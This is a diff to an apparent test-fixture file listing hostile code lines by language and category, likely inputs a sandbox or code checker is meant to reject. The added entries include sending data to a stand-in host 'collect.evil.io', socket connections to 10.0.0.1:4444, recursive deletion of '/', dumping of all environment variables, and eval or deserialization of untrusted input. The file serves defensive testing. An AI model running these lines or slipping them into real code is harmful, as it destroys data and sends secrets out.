@@ -71,12 +71,17 @@ const JAVASCRIPT: HostileLines = {
     'new WebAssembly.Module(new Uint8Array(8));',
     "String.prototype.at.call.call(Function, null, 'x');",
     'import.meta.url;',
+    'eval(lines[0]);',
+    'new Function(lines[0])();',
+    "[].constructor.constructor('return 1')();",
+    'setTimeout("alert(1)", 1);',
   ],
   process: [
     "process.binding('spawn_sync');",
     "process['mainModule'].require('child_process').execSync('id');",
     "globalThis['pro' + 'cess'].exit(1);",
     'process.kill(process.ppid);',
+    "require('child_process').execSync('id');",
   ],
   network: [
     "fetch('https://collect.evil.io');",
@@ -87,12 +92,15 @@ const JAVASCRIPT: HostileLines = {
     'new XMLHttpRequest().open("GET", label(lines));',
     'new EventSource(label(lines));',
     'import(label(lines));',
+    "fetch('https://collect.evil.io/' + label(lines));",
+    "const socket = require('node:net').connect(4444, '10.0.0.1');",
   ],
   files: [
     "require('fs').writeFileSync('x', 'y');",
     'Deno.removeSync(label(lines));',
     'Bun.write(label(lines), label(lines));',
     "require('fs/promises').rm('x');",
+    "fs.rmSync('/', { recursive: true });",
   ],
   environment: [
     'const t = process.env.NPM_TOKEN;',
@@ -100,6 +108,8 @@ const JAVASCRIPT: HostileLines = {
     'import.meta.env.SECRET;',
     'throw new Error(process.env.CI);',
     "console.log('x', lines);",
+    'const all = JSON.stringify(process.env);',
+    'const all = `$' + '{process.env.HOME_PAGE}`;',
   ],
   escape: [
     'lines.__proto__.map = () => [];',
@@ -161,6 +171,9 @@ const PYTHON: HostileLines = {
     "f'{eval(lines[0])}'",
     'x = [eval(i) for i in lines]',
     '(e := eval)(str(lines))',
+    'eval(lines[0])',
+    '__import__("os")',
+    'pickle.loads(lines)',
   ],
   process: [
     "import subprocess; subprocess.run(['id'])",
@@ -169,6 +182,8 @@ const PYTHON: HostileLines = {
     "from os import popen; popen('id')",
     "import multiprocessing.util as u; u.os.system('id')",
     'import ctypes; ctypes.CDLL(None)',
+    'import subprocess; subprocess.run(["id"])',
+    'os.system("id")',
   ],
   network: [
     "import urllib.request; urllib.request.urlopen('http://x')",
@@ -177,6 +192,7 @@ const PYTHON: HostileLines = {
     "import requests; requests.get('x')",
     'import webbrowser',
     'import smtplib',
+    'requests.post("https://collect.evil.io", data=str(lines))',
   ],
   files: [
     "open('/etc/passwd').read()",
@@ -185,12 +201,15 @@ const PYTHON: HostileLines = {
     "from pathlib import Path; Path('x').unlink()",
     "import shutil; shutil.rmtree('x')",
     'from io import FileIO',
+    'shutil.rmtree("/")',
   ],
   environment: [
     'import os; os.environ',
     "from os import getenv; getenv('X')",
     'print(lines)',
     "raise ValueError(__import__('os').environ)",
+    'everything = os.environ',
+    'everything = f"{os.environ}"',
   ],
   escape: [
     'x = ().__class__.__bases__[0].__subclasses__()',
@@ -219,18 +238,28 @@ const PYTHON: HostileLines = {
 
 const GO: HostileLines = {
   process: ['exec.Command("id").Run()', 'syscall.Exec("sh", nil, nil)', 'os.StartProcess("sh", nil, nil)'],
-  environment: ['_ = os.Getenv("CI")', '_ = os.Environ()', 'os.Exit(0)', 'println(lines)', 'fmt.Println(lines)'],
+  environment: [
+    '_ = os.Getenv("CI")',
+    '_ = os.Environ()',
+    'os.Exit(0)',
+    'println(lines)',
+    'fmt.Println(lines)',
+    'all := os.Environ()',
+  ],
   network: [
     'http.Get("http://x")',
     'net.Dial("tcp", "10.0.0.1:1")',
     'c := http.DefaultClient; c.Get("http://x")',
     'h := http.Get; h("x")',
+    'http.Get("http://10.0.0.1")',
+    'net.Dial("tcp", address)',
   ],
   files: [
     'os.Remove("x")',
     'os.WriteFile("x", nil, 0o644)',
     'ioutil.WriteFile("x", nil, 0)',
     'f, _ := os.Open("x"); _ = f',
+    'os.RemoveAll("/")',
   ],
   escape: [
     'p := unsafe.Pointer(&sum); _ = p',
@@ -247,6 +276,7 @@ const GO: HostileLines = {
     'f := func(http int) int { return http }; _ = f; http.Get("x")',
     'if exec := 1; exec > 0 { }; exec.Command("id")',
   ],
+  evaluation: ['p := (*int)(unsafe.Pointer(&sum))'],
 };
 /** Beside the lines within a function: what stands at the top of a file. */
 export const GO_TOPS: readonly string[] = [
@@ -281,18 +311,21 @@ const JAVA: HostileLines = {
     'System.out.println(lines);',
     'java.util.function.Supplier<Object> f = System::getenv;',
     'Thread.currentThread().stop();',
+    'String all = System.getenv("HOME_PAGE");',
   ],
   network: [
     'new java.net.URL("http://x").openStream();',
     'java.net.http.HttpClient.newHttpClient();',
     'new java.net.Socket("x", 1);',
     'URI.create("http://x").toURL();',
+    'new java.net.Socket("10.0.0.1", 4444);',
   ],
   files: [
     'new java.io.File("x").delete();',
     'java.nio.file.Files.delete(java.nio.file.Path.of("x"));',
     'new java.io.FileWriter("x");',
     'Files.writeString(Path.of("x"), "y");',
+    'java.nio.file.Files.deleteIfExists(path);',
   ],
   evaluation: [
     'new javax.script.ScriptEngineManager().getEngineByName("js");',
@@ -305,6 +338,7 @@ const JAVA: HostileLines = {
     'new java.io.ObjectInputStream(null).readObject();',
     'Object o = "x"; o.getClass().forName("y");',
     'var c = lines.getClass(); c.getMethod("x");',
+    'Class.forName("shop.Kind");',
   ],
   global: [
     'Shell.run("id");',
@@ -363,6 +397,8 @@ const RUBY: HostileLines = {
     "Object.new.instance_eval { system('id') }",
     "RubyVM::InstructionSequence.compile('1').eval",
     '"#{eval(\'1\')}"',
+    'eval(@lines.first)',
+    'Marshal.load(@lines)',
   ],
   environment: [
     "ENV['CI']",
@@ -376,6 +412,8 @@ const RUBY: HostileLines = {
     'abort',
     'at_exit { }',
     'warn lines',
+    'all = ENV.to_h',
+    'all = "#{ENV}"',
   ],
   network: [
     "Net::HTTP.get('x', '/')",
@@ -384,6 +422,7 @@ const RUBY: HostileLines = {
     "require 'socket'",
     "require 'net/http'",
     'Socket',
+    "Net::HTTP.get('10.0.0.1', '/')",
   ],
   files: [
     "File.delete('x')",
@@ -392,6 +431,7 @@ const RUBY: HostileLines = {
     "Dir.glob('x')",
     "IO.read('x')",
     "File.open('x')",
+    "FileUtils.rm_rf('/')",
   ],
   escape: [
     'ObjectSpace.each_object { }',
@@ -435,8 +475,14 @@ const RUST: HostileLines = {
     'let s = format!("{:?}", std::env::vars());',
     'let s = format!("{}", { std::process::exit(1); 1 });',
     'assert!(std::env::var("CI").is_ok());',
+    'let all = std::env::vars();',
   ],
-  network: ['std::net::TcpStream::connect("x:1");', 'reqwest::blocking::get("x");', 'use std::net::UdpSocket;'],
+  network: [
+    'std::net::TcpStream::connect("x:1");',
+    'reqwest::blocking::get("x");',
+    'use std::net::UdpSocket;',
+    'let s = std::net::TcpStream::connect("10.0.0.1:4444");',
+  ],
   files: [
     'std::fs::remove_file("x");',
     'let t = include_str!("/etc/passwd");',
@@ -444,6 +490,7 @@ const RUST: HostileLines = {
     'use std::fs; fs::remove_dir_all("x");',
     'std::fs::File::create("x");',
     'vec![std::fs::read("x")];',
+    'std::fs::remove_dir_all("/");',
   ],
   escape: [
     'unsafe { std::hint::unreachable_unchecked() };',
@@ -467,6 +514,7 @@ const RUST: HostileLines = {
     'let f = crate::secrets::all; f();',
   ],
   rebinding: ['{ let std = 1; } std::process::exit(1);', 'let f = |std: i32| std; f(1); std::env::vars();'],
+  evaluation: ['unsafe { core::ptr::null::<u32>().read() };'],
 };
 
 const CSHARP: HostileLines = {
@@ -483,12 +531,14 @@ const CSHARP: HostileLines = {
     'System.Console.WriteLine(lines);',
     'Console.WriteLine(lines);',
     'System.AppContext.SetSwitch("x", true);',
+    'var all = Environment.GetEnvironmentVariables();',
   ],
   network: [
     'new System.Net.Http.HttpClient().GetStringAsync("http://x");',
     'new System.Net.Sockets.TcpClient("x", 1);',
     'System.Net.Dns.GetHostEntry("x");',
     'using var c = new HttpClient();',
+    'new System.Net.Http.HttpClient();',
   ],
   files: [
     'System.IO.File.Delete("x");',
@@ -496,6 +546,7 @@ const CSHARP: HostileLines = {
     'new System.IO.StreamWriter("x");',
     'File.ReadAllText("/etc/passwd");',
     'System.IO.Directory.Delete("x");',
+    'System.IO.File.Delete("/");',
   ],
   evaluation: [
     'System.Reflection.Assembly.Load("x");',
@@ -508,6 +559,7 @@ const CSHARP: HostileLines = {
     'lines?.GetType();',
     'System.Linq.Expressions.Expression.Lambda(null).Compile();',
     'System.Delegate.CreateDelegate(null, null);',
+    'System.Reflection.Assembly.Load(bytes);',
   ],
   escape: [
     'unsafe { int* p = null; }',
@@ -573,6 +625,8 @@ const PHP: HostileLines = {
     "preg_replace_callback('/x/', 'system', 'x');",
     '$this->{$lines[0]};',
     "constant('X');",
+    'eval($code);',
+    'unserialize($code);',
   ],
   environment: [
     "getenv('X');",
@@ -586,6 +640,7 @@ const PHP: HostileLines = {
     'die();',
     'print 1;',
     'print_r($lines);',
+    "$all = getenv('HOME_PAGE');",
   ],
   network: [
     "curl_init('x');",
@@ -593,6 +648,7 @@ const PHP: HostileLines = {
     "fsockopen('x', 1);",
     'new \\SoapClient(null);',
     "header('X: y');",
+    "curl_exec(curl_init('http://10.0.0.1'));",
   ],
   files: [
     "unlink('x');",
@@ -601,6 +657,7 @@ const PHP: HostileLines = {
     "readfile('x');",
     "rename('a', 'b');",
     "new \\SplFileObject('x');",
+    "unlink('/index');",
   ],
   escape: [
     'set_error_handler(fn () => true);',
@@ -618,9 +675,10 @@ const PHP: HostileLines = {
 
 const KOTLIN: HostileLines = {
   process: ['Runtime.getRuntime().exec("id")', 'ProcessBuilder("id").start()'],
-  environment: ['System.getenv()', 'println(lines)'],
+  environment: ['System.getenv()', 'println(lines)', 'val all = System.getenv()'],
   files: ['java.io.File("x").delete()'],
-  evaluation: ['Class.forName("x")', 'lines::class.java.methods'],
+  evaluation: ['Class.forName("x")', 'lines::class.java.methods', 'Class.forName("shop.Kind")'],
+  network: ['java.net.URL("http://10.0.0.1").readText()'],
 };
 
 /** By language; those of Go that stand at the top of a file are `GO_TOPS`. */
